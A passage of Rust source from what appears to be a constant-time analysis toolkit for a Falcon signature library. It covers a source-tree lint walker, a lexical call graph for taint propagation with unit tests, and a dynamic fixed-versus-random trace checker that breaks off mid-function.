    }
}

/// Position of the binding `=` (plain or compound), if any: skips
/// `==`, `!=`, `<=`, `>=` and `=>` but accepts `<<=`/`>>=`.
pub(crate) fn binding_eq(chars: &[char]) -> Option<usize> {
    for p in 0..chars.len() {
        if chars[p] != '=' {
            continue;
        }
        let prev = if p > 0 { chars[p - 1] } else { ' ' };
        let next = chars.get(p + 1).copied().unwrap_or(' ');
        if prev == '=' || prev == '!' || next == '=' || next == '>' {
            continue;
        }
        if prev == '<' || prev == '>' {
            let prev2 = if p > 1 { chars[p - 2] } else { ' ' };
            if prev2 != prev {
                continue; // `<=` / `>=`
            }
        }
        return Some(p);
    }
    None
}

/// Lints every `.rs` file under `root`, skipping `target/` and hidden
/// directories. Paths in the outcome are relative to `root` with `/`
/// separators, so reports and baselines are machine-independent.
pub fn lint_tree(root: &Path, allow: &CallAllowlist) -> std::io::Result<TreeOutcome> {
    let mut files = Vec::new();
    collect_rs_files(root, root, &mut files)?;
    files.sort();
    let mut out = TreeOutcome { files: files.len(), ..TreeOutcome::default() };
    for rel in &files {
        let src = std::fs::read_to_string(root.join(rel))?;
        let fo = lint_source(rel, &src, allow);
        out.regions += fo.regions;
        out.lines += fo.lines;
        out.violations.extend(fo.violations);
    }
    out.violations.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    Ok(out)
}

/// Collects workspace-relative `/`-separated paths of every `.rs` file
/// under `dir`, skipping `target/` and hidden directories. Shared by the
/// region lint, the interprocedural pass and the audit passes so all of
/// them see the same tree.
pub(crate) fn collect_rs_files(
    root: &Path,
    dir: &Path,
    out: &mut Vec<String>,
) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        let path = entry.path();
        let name = entry.file_name().to_string_lossy().into_owned();
        if path.is_dir() {
            if name == "target" || name.starts_with('.') {
                continue;
            }
            collect_rs_files(root, &path, out)?;
        } else if name.ends_with(".rs") {
            let rel = path
                .strip_prefix(root)
                .unwrap_or(&path)
                .components()
                .map(|c| c.as_os_str().to_string_lossy())
                .collect::<Vec<_>>()
                .join("/");
            out.push(rel);
        }
    }
    Ok(())
}
