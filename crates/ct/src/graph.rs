//! Workspace module map, function extraction and call graph for the
//! interprocedural taint pass.
//!
//! This is a *lexical* call graph, built from the same scrubbed,
//! statement-stitched source the lint sees — not from the compiler.
//! Per file it recovers:
//!
//! * the crate/module path (derived from the file's workspace-relative
//!   location, e.g. `crates/fpr/src/mul.rs` → `falcon_fpr::mul`);
//! * every `fn` item with its signature (parameter names and type
//!   text, return type text), enclosing `impl` type, body line span,
//!   and whether it lives in test code (`#[cfg(test)]` modules,
//!   `tests/` trees, bench binaries);
//! * call sites inside each body: identifier tokens directly applied
//!   with `(`, resolved to workspace functions **by bare name** —
//!   every same-named function is a candidate callee.
//!
//! It also extracts struct definitions (via [`crate::fields`]) so the
//! taint pass can seed per-field for types that declare public fields,
//! and it accounts for every call edge the conservative resolution
//! policy *drops* — closure/`dyn`/std calls with no workspace candidate
//! and ambiguous bare-name homonyms — in [`CallGraph::edge_stats`], so
//! under-taint is visible instead of silent.
//!
//! The deliberate limits (documented in DESIGN.md): no trait-dispatch
//! or path resolution (name collisions over-connect the graph, which
//! over-taints — safe for this analysis) and no macro expansion. The
//! taint pass in [`crate::summary`] is built to be conservative under
//! exactly these approximations.

use crate::fields::FieldMap;
use crate::scan::{idents, stitch, Directive, Stmt};
use std::collections::BTreeMap;
use std::path::Path;

/// One function parameter: its binding name and the scrubbed type text.
#[derive(Debug, Clone)]
pub struct Param {
    /// Binding name (`self` for methods; `_` patterns keep the raw text).
    pub name: String,
    /// Type text; for `self`/`&mut self` this is the enclosing `impl`
    /// type, so seed matching treats methods like free functions.
    pub ty: String,
}

/// One extracted function item.
#[derive(Debug, Clone)]
pub struct FnInfo {
    /// Workspace-relative file path (`/` separators).
    pub file: String,
    /// Module path derived from the file location.
    pub module: String,
    /// Bare function name.
    pub name: String,
    /// Qualified display name: `Type::name` inside an `impl`, else the
    /// bare name.
    pub qual: String,
    /// 1-based line of the `fn` keyword.
    pub line: usize,
    /// Parameters in declaration order.
    pub params: Vec<Param>,
    /// Scrubbed return type text (empty when the function returns unit).
    pub ret: String,
    /// Inclusive physical-line span of the body (after the opening
    /// brace line through the closing brace line).
    pub body: (usize, usize),
    /// Whether the function lives in test code (`#[cfg(test)]` module,
    /// `tests/` tree, `benches/`, `examples/`).
    pub is_test: bool,
    /// Whether the body contains a `// ct: secret` region annotation.
    pub has_region: bool,
}

/// A call site inside a function body.
#[derive(Debug, Clone)]
pub struct CallSite {
    /// Index of the calling function in [`CallGraph::fns`].
    pub caller: usize,
    /// Bare callee name as written at the call site.
    pub callee: String,
    /// Type qualifier when the call was written `Type::callee(…)`;
    /// lets resolution prefer `Type::callee` over every bare-name
    /// homonym.
    pub recv: Option<String>,
    /// 1-based line of the statement containing the call.
    pub line: usize,
}

/// Per-file artifacts kept for the taint pass: the stitched statements
/// of the whole file, indexed once.
#[derive(Debug, Default)]
pub struct FileStmts {
    /// Workspace-relative path.
    pub file: String,
    /// All logical statements in the file, in order.
    pub stmts: Vec<Stmt>,
}

/// The workspace call graph.
#[derive(Debug, Default)]
pub struct CallGraph {
    /// Every extracted function.
    pub fns: Vec<FnInfo>,
    /// Every recognised call site.
    pub calls: Vec<CallSite>,
    /// Bare name → indices of same-named functions (the conservative
    /// resolution set).
    pub by_name: BTreeMap<String, Vec<usize>>,
    /// Retained statements per file, for the taint pass's body replays.
    pub files: Vec<FileStmts>,
    /// fn index → indices into the owning file's statement list that
    /// fall inside the body span.
    pub body_stmts: Vec<(usize, Vec<usize>)>,
    /// Struct definitions, for field-sensitive seeding.
    pub structs: FieldMap,
}

/// Resolution accounting over every recorded call site: edges the
/// conservative policy keeps versus edges it drops. Dropped edges are
/// the under-taint surface — calls through closures, `dyn`/`impl
/// Trait` objects and the standard library have no workspace candidate
/// (`unresolved`), and bare-name homonyms with several candidates are
/// dropped by the taint pass rather than guessed (`ambiguous`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EdgeStats {
    /// Call sites resolved to exactly one workspace function (or to an
    /// exact `Type::name` qualifier match).
    pub resolved: usize,
    /// Call sites whose bare name matches several workspace functions
    /// and carries no disambiguating qualifier: dropped by the taint
    /// pass.
    pub ambiguous: usize,
    /// Call sites with no workspace candidate at all (std/closure/`dyn`
    /// dispatch): invisible to interprocedural propagation.
    pub unresolved: usize,
}

impl EdgeStats {
    /// Total edges dropped at resolution (`ambiguous + unresolved`).
    pub fn dropped(&self) -> usize {
        self.ambiguous + self.unresolved
    }
}

impl CallGraph {
    /// Builds the graph for every `.rs` file under `root` (skipping
    /// `target/` and hidden directories).
    pub fn build(root: &Path) -> std::io::Result<CallGraph> {
        let mut rels = Vec::new();
        crate::lint::collect_rs_files(root, root, &mut rels)?;
        rels.sort();
        let mut g = CallGraph::default();
        for rel in &rels {
            let src = std::fs::read_to_string(root.join(rel))?;
            g.add_file(rel, &src);
        }
        g.index();
        Ok(g)
    }

    /// Builds a graph from in-memory sources (fixture tests).
    pub fn from_sources(sources: &[(&str, &str)]) -> CallGraph {
        let mut g = CallGraph::default();
        for (rel, src) in sources {
            g.add_file(rel, src);
        }
        g.index();
        g
    }

    /// Parses one file into functions, call sites and retained
    /// statements.
    fn add_file(&mut self, rel: &str, src: &str) {
        self.structs.add_file(rel, src);
        let stmts = stitch(src);
        let module = module_path(rel);
        let path_is_test = path_is_test(rel);
        let file_idx = self.files.len();

        // Context stack entries: (brace depth *after* the opening
        // brace, kind).
        enum Ctx {
            Impl(String),
            TestMod,
            Fn(usize),
            Other,
        }
        let mut ctx: Vec<(usize, Ctx)> = Vec::new();
        let mut depth = 0usize;
        let mut pending_cfg_test = false;
        // A signature parsed on a statement that did not open its brace
        // yet (rustfmt puts `where` clauses and the `{` on later
        // lines): carried until the brace arrives or a `;` (trait
        // method declaration) drops it.
        let mut pending_fn: Option<(String, String, String, usize, bool)> = None;

        for stmt in &stmts {
            let code = stmt.code.trim();
            let toks = idents(code);
            let in_test = path_is_test || ctx.iter().any(|(_, k)| matches!(k, Ctx::TestMod));
            let impl_ty = ctx.iter().rev().find_map(|(_, k)| match k {
                Ctx::Impl(t) => Some(t.clone()),
                _ => None,
            });

            // Attribute statements: remember #[cfg(test)] for the next
            // item, then skip.
            if code.starts_with('#') {
                if toks.iter().any(|t| t.text == "cfg") && toks.iter().any(|t| t.text == "test") {
                    pending_cfg_test = true;
                }
                continue;
            }

            let opens = code.matches('{').count();
            let closes = code.matches('}').count();
            let sig = fn_signature(code, &toks);

            let push_fn = |name: String,
                           params: String,
                           ret: String,
                           line: usize,
                           is_test: bool,
                           fns: &mut Vec<FnInfo>| {
                let qual = match &impl_ty {
                    Some(t) => format!("{t}::{name}"),
                    None => name.clone(),
                };
                let params = resolve_self(params, impl_ty.as_deref());
                fns.push(FnInfo {
                    file: rel.to_string(),
                    module: module.clone(),
                    name,
                    qual,
                    line,
                    params,
                    ret,
                    body: (line, line),
                    is_test,
                    has_region: false,
                });
                fns.len() - 1
            };

            // Item recognition happens on the statement that *opens*
            // the item's brace.
            let mut opened_fn: Option<usize> = None;
            let mut one_line_fn: Option<usize> = None;
            if opens > closes {
                if let Some((name, params, ret)) = sig {
                    let fi = push_fn(
                        name,
                        params,
                        ret,
                        stmt.line,
                        in_test || pending_cfg_test,
                        &mut self.fns,
                    );
                    ctx.push((depth + 1, Ctx::Fn(fi)));
                    opened_fn = Some(fi);
                } else if let Some((name, params, ret, line, test)) = pending_fn.take() {
                    // `where`-clause signature finally opening its body.
                    let fi = push_fn(name, params, ret, line, test, &mut self.fns);
                    ctx.push((depth + 1, Ctx::Fn(fi)));
                    opened_fn = Some(fi);
                } else if let Some(ty) = impl_target(code, &toks) {
                    ctx.push((depth + 1, Ctx::Impl(ty)));
                } else if toks.first().map(|t| t.text == "mod").unwrap_or(false)
                    || (toks.first().map(|t| t.text == "pub").unwrap_or(false)
                        && toks.get(1).map(|t| t.text == "mod").unwrap_or(false))
                {
                    ctx.push((depth + 1, if pending_cfg_test { Ctx::TestMod } else { Ctx::Other }));
                } else {
                    ctx.push((depth + 1, Ctx::Other));
                }
            } else if let Some((name, params, ret)) = sig {
                if opens > 0 {
                    // One-line body: `fn flush(&self) {}` or a stitched
                    // short method. Calls inside it are recorded below.
                    let fi = push_fn(
                        name,
                        params,
                        ret,
                        stmt.line,
                        in_test || pending_cfg_test,
                        &mut self.fns,
                    );
                    self.fns[fi].body = (stmt.line, stmt.line + stmt.span - 1);
                    one_line_fn = Some(fi);
                } else if !code.ends_with(';') {
                    // Signature awaiting its `where` clause / brace.
                    pending_fn = Some((name, params, ret, stmt.line, in_test || pending_cfg_test));
                }
            } else if pending_fn.is_some() && (code.ends_with(';') || opens == 0 && closes > 0) {
                // Trait method declaration or an aborted signature.
                if !code.starts_with("where") && !code.contains(':') {
                    pending_fn = None;
                }
                if code.ends_with(';') {
                    pending_fn = None;
                }
            }
            pending_cfg_test = false;

            // Record calls and region annotations against the innermost
            // enclosing fn. The statement that *opens* a body is its
            // signature: Rust signatures contain no call expressions,
            // so it contributes nothing (unless it is a stitched
            // one-line body, handled via `one_line_fn`).
            let cur_fn = one_line_fn.or_else(|| {
                ctx.iter().rev().find_map(|(_, k)| match k {
                    Ctx::Fn(i) => Some(*i),
                    _ => None,
                })
            });
            if let Some(fi) = cur_fn {
                if opened_fn != Some(fi) {
                    for (callee, recv) in call_tokens(code, &toks) {
                        // A one-line fn's own name reads as a call
                        // token; skip the self-edge at its own line.
                        if one_line_fn == Some(fi) && callee == self.fns[fi].name {
                            continue;
                        }
                        self.calls.push(CallSite { caller: fi, callee, recv, line: stmt.line });
                    }
                }
                if stmt.directives.iter().any(|(_, d)| matches!(d, Directive::Secret(_))) {
                    self.fns[fi].has_region = true;
                }
                self.fns[fi].body.1 = stmt.line + stmt.span - 1;
            }

            // Apply depth changes and pop contexts whose brace closed.
            depth += opens;
            depth = depth.saturating_sub(closes);
            while let Some((open_depth, _)) = ctx.last() {
                if depth < *open_depth {
                    if let Some((_, Ctx::Fn(i))) = ctx.last() {
                        self.fns[*i].body.1 = stmt.line + stmt.span - 1;
                    }
                    ctx.pop();
                } else {
                    break;
                }
            }
        }

        self.files.push(FileStmts { file: rel.to_string(), stmts });
        let _ = file_idx;
    }

    /// Builds the name index and per-function body-statement lists.
    fn index(&mut self) {
        self.by_name.clear();
        for (i, f) in self.fns.iter().enumerate() {
            self.by_name.entry(f.name.clone()).or_default().push(i);
        }
        self.body_stmts = Vec::with_capacity(self.fns.len());
        for (i, f) in self.fns.iter().enumerate() {
            let file =
                self.files.iter().position(|fs| fs.file == f.file).expect("fn's file was scanned");
            let idxs: Vec<usize> = self.files[file]
                .stmts
                .iter()
                .enumerate()
                .filter(|(_, s)| s.line > f.body.0 && s.line <= f.body.1)
                .map(|(si, _)| si)
                .collect();
            self.body_stmts.push((file, idxs));
            let _ = i;
        }
    }

    /// Indices of non-test functions whose bare name matches.
    pub fn resolve(&self, name: &str) -> impl Iterator<Item = usize> + '_ {
        self.by_name.get(name).into_iter().flatten().copied().filter(move |&i| !self.fns[i].is_test)
    }

    /// Candidate callees of a call site. A written `Type::name`
    /// qualifier narrows the set to that impl's function when the graph
    /// knows it; otherwise (and for method-call syntax) every non-test
    /// function with the bare name is a candidate — deliberate
    /// over-connection, which over-taints.
    pub fn resolve_site(&self, site: &CallSite) -> Vec<usize> {
        if let Some(recv) = &site.recv {
            let qual = format!("{recv}::{}", site.callee);
            let exact: Vec<usize> =
                self.resolve(&site.callee).filter(|&i| self.fns[i].qual == qual).collect();
            if !exact.is_empty() {
                return exact;
            }
        }
        self.resolve(&site.callee).collect()
    }

    /// Classifies every recorded call site under the taint-propagation
    /// resolution policy (see [`crate::summary`]): kept when a written
    /// `Type::name` qualifier matches exactly or the bare name is
    /// unique among non-test workspace functions; dropped otherwise.
    /// This makes the pass's under-taint surface countable — DESIGN §9
    /// used to record these edges as vanishing silently.
    pub fn edge_stats(&self) -> EdgeStats {
        let mut stats = EdgeStats::default();
        for site in &self.calls {
            let bare = self.resolve(&site.callee).count();
            let kept = match &site.recv {
                Some(r) => {
                    let qual = format!("{r}::{}", site.callee);
                    self.resolve(&site.callee).any(|i| self.fns[i].qual == qual)
                }
                None => bare == 1,
            };
            if kept {
                stats.resolved += 1;
            } else if bare >= 2 {
                stats.ambiguous += 1;
            } else {
                stats.unresolved += 1;
            }
        }
        stats
    }
}

/// Derives a module path from a workspace-relative file path:
/// `crates/fpr/src/mul.rs` → `falcon_fpr::mul`; `src/lib.rs` →
/// `falcon_down`; `crates/ct/src/bin/ct_lint.rs` → `falcon_ct::bin::ct_lint`.
pub fn module_path(rel: &str) -> String {
    let crate_name = |dir: &str| match dir {
        "core" => "falcon_dema".to_string(),
        "falcon" => "falcon_sig".to_string(),
        other => format!("falcon_{other}"),
    };
    let parts: Vec<&str> = rel.split('/').collect();
    let (krate, rest) = match parts.as_slice() {
        ["crates", dir, "src", rest @ ..] => (crate_name(dir), rest),
        ["crates", dir, rest @ ..] => (crate_name(dir), rest),
        ["src", rest @ ..] => ("falcon_down".to_string(), rest),
        rest => ("workspace".to_string(), rest),
    };
    let mut out = krate;
    for (i, p) in rest.iter().enumerate() {
        let stem = p.strip_suffix(".rs").unwrap_or(p);
        if i == rest.len() - 1 && (stem == "lib" || stem == "mod" || stem == "main") {
            continue;
        }
        out.push_str("::");
        out.push_str(stem);
    }
    out
}

/// Whether a path lies in a test/bench/example tree.
fn path_is_test(rel: &str) -> bool {
    let parts: Vec<&str> = rel.split('/').collect();
    parts.iter().any(|p| *p == "tests" || *p == "benches" || *p == "examples")
        || rel.ends_with("tests.rs")
}

/// Parses a statement that opens a function body: returns
/// `(name, raw params text, return type text)`.
fn fn_signature(code: &str, toks: &[crate::scan::Tok]) -> Option<(String, String, String)> {
    let fn_tok = toks.iter().position(|t| t.text == "fn")?;
    // `fn` must be in item position: first token, or preceded only by
    // visibility/qualifier keywords — not a `fn(u64)` pointer type in a
    // field or parameter.
    let ok = toks[..fn_tok].iter().all(|t| {
        matches!(
            t.text.as_str(),
            "pub" | "crate" | "super" | "const" | "async" | "unsafe" | "extern" | "default" | "in"
        )
    });
    if !ok {
        return None;
    }
    let name = toks.get(fn_tok + 1)?;
    let chars: Vec<char> = code.chars().collect();
    // Opening paren: first '(' after the name (skipping generics).
    let mut i = name.end;
    let mut angle = 0i32;
    while i < chars.len() {
        match chars[i] {
            '<' => angle += 1,
            '>' => angle -= 1,
            '(' if angle <= 0 => break,
            _ => {}
        }
        i += 1;
    }
    if i >= chars.len() {
        return None;
    }
    let open = i;
    let mut depth = 0usize;
    let mut close = chars.len();
    for (j, &c) in chars.iter().enumerate().skip(open) {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    close = j;
                    break;
                }
            }
            _ => {}
        }
    }
    let params: String = chars.get(open + 1..close).unwrap_or(&[]).iter().collect();
    let after: String = chars.get(close + 1..).unwrap_or(&[]).iter().collect();
    let ret = after
        .split_once("->")
        .map(|(_, r)| {
            let r = r.trim();
            let end = r.find(['{']).unwrap_or(r.len());
            let r = &r[..end];
            let r = r.split(" where ").next().unwrap_or(r);
            r.trim().to_string()
        })
        .unwrap_or_default();
    Some((name.text.clone(), params, ret))
}

/// Splits a parameter list on top-level commas into [`Param`]s,
/// substituting the `impl` type for `self` receivers.
fn resolve_self(params: String, impl_ty: Option<&str>) -> Vec<Param> {
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut cur = String::new();
    let push = |text: &str, out: &mut Vec<Param>| {
        let text = text.trim();
        if text.is_empty() {
            return;
        }
        if let Some((name, ty)) = text.split_once(':') {
            let name = name
                .trim()
                .trim_start_matches("mut ")
                .trim_start_matches("ref ")
                .trim()
                .to_string();
            out.push(Param { name, ty: ty.trim().to_string() });
        } else {
            // Receiver forms: `self`, `&self`, `&mut self`, `mut self`.
            let bare = text.trim_start_matches('&').trim();
            let bare = bare.trim_start_matches("mut ").trim();
            if bare == "self" {
                out.push(Param {
                    name: "self".to_string(),
                    ty: impl_ty.unwrap_or("Self").to_string(),
                });
            }
        }
    };
    for c in params.chars() {
        match c {
            '(' | '[' | '<' => depth += 1,
            ')' | ']' | '>' => depth -= 1,
            ',' if depth <= 0 => {
                push(&cur, &mut out);
                cur.clear();
                continue;
            }
            _ => {}
        }
        cur.push(c);
    }
    push(&cur, &mut out);
    out
}

/// Extracts the target type of an `impl` statement: `Bar` from
/// `impl<T> Foo for Bar<T> {` and `Fpr` from `impl Fpr {`.
fn impl_target(_code: &str, toks: &[crate::scan::Tok]) -> Option<String> {
    if toks.first().map(|t| t.text.as_str()) != Some("impl") {
        return None;
    }
    let after_for: Option<usize> = toks.iter().position(|t| t.text == "for");
    let pick_from = after_for.map(|p| p + 1).unwrap_or(1);
    // First uppercase-initial token from the pick point is the type
    // (skipping any generic parameter idents reused from `impl<...>`:
    // those also appear later, so taking the first uppercase token
    // after the generics close is approximated by preferring a token
    // that is not a single letter when one exists).
    let cands: Vec<&crate::scan::Tok> = toks[pick_from.min(toks.len())..]
        .iter()
        .filter(|t| t.text.starts_with(char::is_uppercase))
        .collect();
    cands.iter().find(|t| t.text.len() > 1).or_else(|| cands.first()).map(|t| t.text.clone())
}

/// Identifier tokens applied with `(` — the lexical call sites of a
/// statement, each with its `Type::` qualifier when one is written.
/// Keywords, macros (`name!(…)`) and uppercase-initial constructors are
/// excluded, mirroring the lint's `secret-call` rule.
fn call_tokens(code: &str, toks: &[crate::scan::Tok]) -> Vec<(String, Option<String>)> {
    let chars: Vec<char> = code.chars().collect();
    let mut out: Vec<(String, Option<String>)> = Vec::new();
    for (ti, t) in toks.iter().enumerate() {
        if crate::lint::is_keyword(&t.text) || t.text.starts_with(char::is_uppercase) {
            continue;
        }
        let mut j = t.end;
        while chars.get(j) == Some(&' ') {
            j += 1;
        }
        if chars.get(j) == Some(&'!') {
            continue; // macro
        }
        if chars.get(j) != Some(&'(') {
            continue;
        }
        // `Type::name(` — the previous token is uppercase-initial and
        // immediately adjoins via `::`.
        let recv = ti
            .checked_sub(1)
            .and_then(|p| toks.get(p))
            .filter(|prev| {
                prev.text.starts_with(char::is_uppercase)
                    && chars.get(prev.end..t.start).map(|seg| seg.iter().collect::<String>())
                        == Some("::".to_string())
            })
            .map(|prev| prev.text.clone());
        if !out.iter().any(|(n, r)| *n == t.text && *r == recv) {
            out.push((t.text.clone(), recv));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const SRC: &str = "\
use std::fmt;

pub struct Key { f: Vec<i64> }

impl Key {
    pub fn coeffs(&self) -> &[i64] {
        &self.f
    }

    pub fn rotate(&mut self, by: usize) {
        helper(&mut self.f, by);
    }
}

fn helper(v: &mut Vec<i64>, by: usize) {
    let n = v.len();
    v.rotate_left(by % n);
}

#[cfg(test)]
mod tests {
    fn probe() {
        helper(&mut vec![1], 0);
    }
}
";

    #[test]
    fn extracts_functions_and_methods() {
        let g = CallGraph::from_sources(&[("crates/x/src/key.rs", SRC)]);
        let quals: Vec<&str> = g.fns.iter().map(|f| f.qual.as_str()).collect();
        assert_eq!(quals, vec!["Key::coeffs", "Key::rotate", "helper", "probe"]);
        let helper = &g.fns[2];
        assert_eq!(helper.params.len(), 2);
        assert_eq!(helper.params[0].name, "v");
        assert!(helper.params[0].ty.contains("Vec<i64>"));
        assert!(g.fns[3].is_test, "fn inside #[cfg(test)] mod is test code");
        assert!(!helper.is_test);
    }

    #[test]
    fn self_receiver_gets_impl_type() {
        let g = CallGraph::from_sources(&[("crates/x/src/key.rs", SRC)]);
        let coeffs = &g.fns[0];
        assert_eq!(coeffs.params[0].name, "self");
        assert_eq!(coeffs.params[0].ty, "Key");
        assert_eq!(coeffs.ret, "&[i64]");
    }

    #[test]
    fn call_sites_resolve_by_name() {
        let g = CallGraph::from_sources(&[("crates/x/src/key.rs", SRC)]);
        let calls: Vec<(&str, &str)> =
            g.calls.iter().map(|c| (g.fns[c.caller].qual.as_str(), c.callee.as_str())).collect();
        assert!(calls.contains(&("Key::rotate", "helper")), "{calls:?}");
        // Resolution excludes test functions.
        let targets: Vec<usize> = g.resolve("helper").collect();
        assert_eq!(targets, vec![2]);
    }

    #[test]
    fn module_paths() {
        assert_eq!(module_path("crates/fpr/src/mul.rs"), "falcon_fpr::mul");
        assert_eq!(module_path("crates/falcon/src/lib.rs"), "falcon_sig");
        assert_eq!(module_path("crates/core/src/cpa.rs"), "falcon_dema::cpa");
        assert_eq!(module_path("src/lib.rs"), "falcon_down");
        assert_eq!(module_path("crates/ct/src/bin/ct_lint.rs"), "falcon_ct::bin::ct_lint");
    }

    #[test]
    fn multiline_signature_is_parsed() {
        let src = "\
pub fn correlate(
    hypotheses: &[u64],
    samples: &[f32],
) -> Vec<f64> {
    score(hypotheses, samples)
}
fn score(h: &[u64], s: &[f32]) -> Vec<f64> {
    Vec::new()
}
";
        let g = CallGraph::from_sources(&[("crates/x/src/c.rs", src)]);
        assert_eq!(g.fns[0].name, "correlate");
        assert_eq!(g.fns[0].params.len(), 2);
        assert_eq!(g.fns[0].ret, "Vec<f64>");
        assert!(g.calls.iter().any(|c| c.callee == "score"));
    }

    #[test]
    fn impl_targets() {
        use crate::scan::idents;
        let cases = [
            ("impl Fpr {", "Fpr"),
            ("impl MulObserver for RecordingObserver {", "RecordingObserver"),
            ("impl<T> Secret<T> {", "Secret"),
            ("impl Div for Fpr {", "Fpr"),
        ];
        for (code, want) in cases {
            let toks = idents(code);
            assert_eq!(impl_target(code, &toks).as_deref(), Some(want), "{code}");
        }
    }
}
