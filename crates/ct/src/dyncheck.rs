//! Dynamic constant-time checking: fixed-vs-random trace comparison.
//!
//! The static lint reasons about source text; this module checks the
//! *executed* control flow. Each `falcon-fpr` primitive is run many
//! times over two secret operand classes in the style of dudect:
//!
//! * **fixed** — the secret operand is one value drawn once;
//! * **random** — a fresh secret is drawn every run;
//!
//! while the public operand follows the same pseudorandom sequence in
//! both classes. With the `ct-check` feature the primitives record
//! every control-flow site they execute (see `falcon_fpr::ctcheck`);
//! a branch-free primitive produces the *same* site sequence — the
//! trace signature — on every run, so the checker simply demands
//! signature equality across all runs of both classes. Any
//! secret-dependent branch, early-out or data-dependent trip count
//! makes the random class diverge.
//!
//! [`fpr_mul_leaky`] is a deliberately leaky multiplication kept as a
//! detector fixture: the self-tests (and the `ct_dyn` binary) assert
//! that the checker flags it, guarding against the checker itself
//! rotting into a rubber stamp.

use crate::secret::Secret;
use falcon_fpr::{ctcheck, Fpr};

/// Configuration for a dynamic check run.
#[derive(Debug, Clone, Copy)]
pub struct DynConfig {
    /// Runs per operand class.
    pub iters: usize,
    /// PRNG seed; two runs with the same seed are bit-identical.
    pub seed: u64,
}

impl Default for DynConfig {
    fn default() -> DynConfig {
        DynConfig { iters: 256, seed: 0x5EED_C701_D5EC_0DE5 }
    }
}

/// Result of checking one primitive.
#[derive(Debug, Clone)]
pub struct Outcome {
    /// Primitive name (stable, used in reports).
    pub name: &'static str,
    /// Total runs executed (both classes).
    pub runs: usize,
    /// Length of the reference trace signature.
    pub sig_len: usize,
    /// Whether every run produced the identical signature.
    pub constant_time: bool,
    /// Empty when constant time; otherwise describes the divergence.
    pub detail: String,
}

/// xorshift64* — the same tiny deterministic generator the fpr fuzz
/// tests use; good enough to exercise operand classes, and dependency
/// free.
fn next(state: &mut u64) -> u64 {
    let mut x = *state;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    *state = x;
    x.wrapping_mul(0x2545_F491_4F6C_DD1D)
}

/// A random normal `Fpr` with unbiased exponent in `[lo_exp, hi_exp]`.
fn rand_fpr(state: &mut u64, lo_exp: i32, hi_exp: i32) -> Fpr {
    let r = next(state);
    let sign = r >> 63;
    let span = (hi_exp - lo_exp + 1) as u64;
    let exf = (1023 + lo_exp) as u64 + next(state) % span;
    let mant = r & ((1u64 << 52) - 1);
    Fpr::from_f64(f64::from_bits((sign << 63) | (exf << 52) | mant))
}

/// Like [`rand_fpr`] but non-negative (for `sqrt`, `expm_p63`).
fn rand_pos_fpr(state: &mut u64, lo_exp: i32, hi_exp: i32) -> Fpr {
    Fpr::from_f64(rand_fpr(state, lo_exp, hi_exp).to_f64().abs())
}

/// Runs one primitive over the fixed and random secret classes and
/// compares trace signatures.
///
/// `gen` draws an operand pair (secret, public) from the PRNG; `run`
/// executes the primitive. The fixed class reuses the first drawn
/// secret for every run; both classes see the same public sequence.
pub fn check_primitive<T: Copy>(
    name: &'static str,
    cfg: &DynConfig,
    mut gen: impl FnMut(&mut u64) -> (Secret<T>, T),
    mut run: impl FnMut(Secret<T>, T),
) -> Outcome {
    falcon_obs::counter("ct.dyn.checks").incr();
    let mut fixed_state = cfg.seed ^ 0xF1DE_F1DE_F1DE_F1DE;
    let (fixed_secret, _) = gen(&mut fixed_state);
    let mut state = cfg.seed;
    let mut reference: Option<Vec<u32>> = None;
    let mut runs = 0usize;
    for iter in 0..cfg.iters {
        let (random_secret, public) = gen(&mut state);
        for (class, secret) in [("fixed", fixed_secret), ("random", random_secret)] {
            ctcheck::arm();
            run(secret, public);
            let sig = ctcheck::disarm();
            runs += 1;
            match &reference {
                None => reference = Some(sig),
                Some(r) if *r != sig => {
                    falcon_obs::counter("ct.dyn.mismatches").incr();
                    return Outcome {
                        name,
                        runs,
                        sig_len: r.len(),
                        constant_time: false,
                        detail: format!(
                            "trace signature diverged on the {class} class at iteration {iter}: \
                             reference has {} sites, this run {}",
                            r.len(),
                            sig.len()
                        ),
                    };
                }
                Some(_) => {}
            }
        }
    }
    Outcome {
        name,
        runs,
        sig_len: reference.map(|r| r.len()).unwrap_or(0),
        constant_time: true,
        detail: String::new(),
    }
}

/// Checks every instrumented `falcon-fpr` primitive; all outcomes
/// should report `constant_time`.
pub fn check_all(cfg: &DynConfig) -> Vec<Outcome> {
    let fpr_pair = |lo: i32, hi: i32| {
        move |s: &mut u64| (Secret::new(rand_fpr(s, lo, hi)), rand_fpr(s, lo, hi))
    };
    vec![
        check_primitive("mul", cfg, fpr_pair(-100, 100), |x, y| {
            let _ = x.expose().mul(y);
        }),
        check_primitive("add", cfg, fpr_pair(-100, 100), |x, y| {
            let _ = x.expose().add(y);
        }),
        check_primitive("sub", cfg, fpr_pair(-100, 100), |x, y| {
            let _ = x.expose().sub(y);
        }),
        check_primitive("div (secret dividend)", cfg, fpr_pair(-100, 100), |x, y| {
            let _ = x.expose().div(y);
        }),
        check_primitive("div (secret divisor)", cfg, fpr_pair(-100, 100), |x, y| {
            let _ = y.div(x.expose());
        }),
        check_primitive(
            "sqr",
            cfg,
            |s| (Secret::new(rand_fpr(s, -100, 100)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().sqr();
            },
        ),
        check_primitive(
            "inv",
            cfg,
            |s| (Secret::new(rand_fpr(s, -100, 100)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().inv();
            },
        ),
        check_primitive(
            "sqrt",
            cfg,
            |s| (Secret::new(rand_pos_fpr(s, -200, 200)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().sqrt();
            },
        ),
        check_primitive(
            "scaled",
            cfg,
            |s| (Secret::new(next(s) as i64), (next(s) % 21) as i64 - 10),
            |i, sc| {
                let _ = Fpr::scaled(i.expose(), sc as i32);
            },
        ),
        check_primitive(
            "rint",
            cfg,
            |s| (Secret::new(rand_fpr(s, -60, 8)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().rint();
            },
        ),
        check_primitive(
            "floor",
            cfg,
            |s| (Secret::new(rand_fpr(s, -60, 8)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().floor();
